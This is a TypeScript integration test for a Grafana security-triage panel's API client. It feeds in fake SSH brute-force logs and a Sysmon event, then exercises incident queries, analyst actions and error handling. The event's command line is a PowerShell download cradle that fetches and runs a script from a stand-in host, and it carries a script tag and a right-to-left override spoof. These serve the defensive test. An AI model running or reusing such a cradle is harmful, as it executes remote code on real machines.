/**
 * The triage panel's client against the real API (real server, real ClickHouse engine), called
 * the way Grafana's plugin proxy calls it: the `proxy` token and `X-Grafana-User`. Checks that
 * every path, query and body the panel sends is one the API takes, that its answers decode into
 * what the panel shows (matched command lines, history with the analyst), and that refusals come
 * back as the analyst should read them.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { post, startTestServer } from '../../../../../api/test/helpers.js'
import { apiErrorFrom, queryString, type Backend, type Query } from '../../src/api/backend'
import { WatchfloorClient } from '../../src/api/watchfloor'
import { safeText } from '../../src/triage/text'

let server: Awaited<ReturnType<typeof startTestServer>>
let client: WatchfloorClient

/** What Grafana's plugin proxy does for the panel: the proxy token from secureJsonData, the signed-in user. */
class ProxyLikeBackend implements Backend {
  constructor(
    private readonly base: string,
    private readonly token: string,
    private readonly user: string,
  ) {}
  private async send(method: string, path: string, body?: unknown): Promise<unknown> {
    const res = await fetch(`${this.base}${path}`, {
      method,
      headers: { authorization: `Bearer ${this.token}`, 'x-grafana-user': this.user, ...(body !== undefined ? { 'content-type': 'application/json' } : {}) },
      ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
    })
    const text = await res.text()
    const data: unknown = text ? JSON.parse(text) : undefined
    if (!res.ok) throw apiErrorFrom(res.status, data, res.statusText)
    return data
  }
  get(path: string, query?: Query) {
    return this.send('GET', `${path}${queryString(query)}`)
  }
  post(path: string, body?: unknown) {
    return this.send('POST', path, body ?? {})
  }
}

const burst = (ip: string) => {
  const n = ip.split('.').at(-1)
  return Array.from({ length: 10 }, (_, s) => `Nov 23 10:00:${String(s).padStart(2, '0')} web${n} sshd[${4000 + s}]: Failed password for user${n} from ${ip} port ${40000 + s} ssh2`).join('\n')
}
const IPS = ['203.0.113.21', '203.0.113.22', '203.0.113.23']
/** A download cradle whose command line hides its tail behind a right-to-left override. */
const CMD = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.200/a.ps1') # <script>x</script> \u202Egpj.exe"
const HOST = 'WKS-9.corp.example'
const sysmon = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', SourceName: 'Microsoft-Windows-Sysmon', Hostname: HOST, UtcTime: '2026-11-24 10:00:00.000', Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: CMD, ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', User: 'CORP\\jdoe', ProcessId: 4242 }

beforeAll(async () => {
  server = await startTestServer()
  const admin = server.adminToken?.token ?? ''
  const made = await fetch(`${server.url}/api/tokens`, { method: 'POST', headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' }, body: JSON.stringify({ name: 'grafana', role: 'proxy' }) })
  const { token } = (await made.json()) as { token: string }
  client = new WatchfloorClient(new ProxyLikeBackend(server.url, token, 'alice'))
  for (const ip of IPS) expect((await post(`${server.url}/api/ingest`, burst(ip), 'text/plain')).status).toBe(202)
  expect((await post(`${server.url}/api/ingest`, JSON.stringify(sysmon), 'application/json')).status).toBe(202)
  const deadline = Date.now() + 60_000
  while ((await client.incidents({ limit: 50, offset: 0 })).total < IPS.length + 1) {
    if (Date.now() > deadline) throw new Error('the bursts made no incidents within 60 s')
    await new Promise((r) => setTimeout(r, 250))
  }
}, 120_000)
afterAll(async () => {
  await server?.cleanup()
})

const idOf = async (ip: string) => {
  const page = await client.incidents({ limit: 5, offset: 0, sourceIp: ip })
  const id = page.incidents[0]?.id
  if (!id) throw new Error(`no incident for ${ip}`)
  return id
}

describe('the panel client on the real API', () => {
  it('reads the queue with its filters and paging, and one incident with its evidence, profiles and similar incidents', async () => {
    const page = await client.incidents({ limit: 2, offset: 0 })
    expect(page.incidents).toHaveLength(2)
    expect(page.total).toBeGreaterThanOrEqual(3)
    const row = page.incidents[0]
    expect(row?.severity).toMatch(/^(CRITICAL|HIGH|MEDIUM|LOW)$/)
    expect(row?.entities.length).toBeGreaterThan(0)
    expect((await client.incidents({ limit: 50, offset: 0, status: 'closed' })).incidents).toEqual([])

    const id = await idOf(IPS[0] ?? '')
    const inc = await client.incident(id)
    expect(inc.title).not.toBe('')
    expect(inc.analysis).not.toBe('')
    expect(inc.iocs.ips).toContain(IPS[0])
    const alerts = await client.alerts(id)
    expect(alerts.alerts[0]).toMatchObject({ ruleTitle: 'SSH Brute Force', techniques: ['T1110.001'] })
    expect(alerts.alerts[0]?.eventIds.length).toBe(10)
    const events = await client.events(id)
    expect(events.events[0]?.original).toContain(`from ${IPS[0]}`)
    const profile = await client.profile(`source_ip=${IPS[0]}`)
    expect(profile?.events).toBeGreaterThan(0)
    await expect(client.similar(id)).resolves.toBeInstanceOf(Array)
  })

  it('serves the matched command line as the event had it, for the panel to show as inert text', async () => {
    const page = await client.incidents({ limit: 50, offset: 0 })
    const id = page.incidents.find((r) => r.entities.includes(`host=${HOST}`))?.id ?? ''
    const { alerts } = await client.alerts(id)
    const cradle = alerts.find((a) => a.matched['process.command_line'] !== undefined)
    expect(cradle?.matched['process.command_line']).toBe(CMD)
    expect(safeText(cradle?.matched['process.command_line'])).toContain('# <script>x</script> [U+202E]gpj.exe')
    const inc = await client.incident(id)
    expect(Object.values(inc.evidence).flatMap((f) => Object.values(f).flat())).toContain(CMD)
  })

  it('acts as the Grafana user: acknowledge, assign, comment, triage, escalate, close with a reason, reopen', async () => {
    const id = await idOf(IPS[1] ?? '')
    expect((await client.act(id, { kind: 'acknowledge' })).status).toBe('in_progress')
    expect((await client.act(id, { kind: 'assign', assignee: 'alice' })).assignee).toBe('alice')
    expect((await client.act(id, { kind: 'comment', text: 'brute force from a scanner' })).comments.at(-1)).toMatchObject({ by: 'grafana:alice', text: 'brute force from a scanner' })
    await client.act(id, { kind: 'triage', verdict: 'true_positive', severity: 'MEDIUM', accepted: false })
    expect((await client.act(id, { kind: 'escalate' })).status).toBe('escalated')
    const closed = await client.act(id, { kind: 'close', closeReason: 'true_positive', reason: 'blocked at the edge' })
    expect(closed.status).toBe('closed')
    expect(closed.closeReason).toBe('true_positive')
    const reopened = await client.act(id, { kind: 'reopen', reason: 'seen again' })
    expect(reopened.statusHistory.map((h) => [h.by, h.from, h.to])).toEqual([
      ['grafana:alice', 'new', 'in_progress'],
      ['grafana:alice', 'in_progress', 'escalated'],
      ['grafana:alice', 'escalated', 'closed'],
      ['grafana:alice', 'closed', 'in_progress'],
    ])
  })

  it('gets refusals it can show: a move the lifecycle refuses, an unknown incident', async () => {
    const id = await idOf(IPS[2] ?? '')
    await client.act(id, { kind: 'close', closeReason: 'false_positive' })
    await expect(client.act(id, { kind: 'escalate' })).rejects.toMatchObject({ status: 409 })
    await expect(client.incident('no-such-incident')).rejects.toMatchObject({ status: 404 })
    const bulk = await client.actMany([id, 'no-such-incident'], { kind: 'acknowledge' })
    expect(bulk.map((r) => r.ok)).toEqual([false, false])
    expect(bulk[1]?.error?.code).toMatch(/NOT_FOUND/)
  })

  it('merges the selected incidents into one and moves several in one bulk request', async () => {
    const [a, b] = [await idOf(IPS[0] ?? ''), await idOf(IPS[1] ?? '')]
    const results = await client.actMany([a, b], { kind: 'merge', into: a, reason: 'same campaign' })
    expect(results.every((r) => r.ok)).toBe(true)
    expect((await client.incident(b)).status).toBe('closed')
    const bulk = await client.actMany([a], { kind: 'escalate' })
    expect(bulk).toEqual([expect.objectContaining({ id: a, ok: true })])
  })
})
